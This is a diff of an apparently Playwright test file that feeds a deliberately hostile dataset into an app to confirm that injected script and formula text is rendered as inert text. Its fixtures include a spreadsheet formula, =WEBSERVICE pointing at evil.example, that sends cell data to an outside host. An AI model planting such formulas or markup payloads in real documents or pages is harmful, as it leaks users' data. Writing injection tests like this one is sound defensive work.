@@ -6,7 +6,7 @@
  */
 import type { Page, Route } from "playwright-core";
 import type { DatasetFile } from "../../src/core/schema";
-import { newerWithXaiAt } from "../support/datasets";
+import { newerVersion, newerWithXaiAt } from "../support/datasets";
 import { usePaneSession } from "./paneSession";
 
 const pane = usePaneSession();
@@ -31,7 +31,7 @@ const NOTES = `=WEBSERVICE("https://evil.example/?"&A1) ${script("notes")}`;
 const SOURCE_TITLE = `${img("source")}evil.example`;
 
 function hostileDataset(): DatasetFile {
-  const file = newerWithXaiAt(31e9, "2026.12.03");
+  const file = newerWithXaiAt(31e9, newerVersion(3));
   for (const [id, name] of Object.entries(NAMES)) {
     const company = file.companies.find((c) => c.id === id);
     if (!company) throw new Error(`no company ${id} in the bundled data`);
@@ -80,7 +80,7 @@ test("script and formula text in the data is shown and written as text, and noth
   await p.getByText("Data refreshed").waitFor();
   // The change summary names the company by its (hostile) name, as text.
   await expect(
-    p.getByText(`${NAMES.xai} valuation $24.0B → $31.0B`, { exact: false }).isVisible()
+    p.getByText(`${NAMES.xai} valuation $250.0B → $31.0B`, { exact: false }).isVisible()
   ).resolves.toBe(true);
 
   // A live valuation table: names go into cells as text, and into formulas as quoted strings.
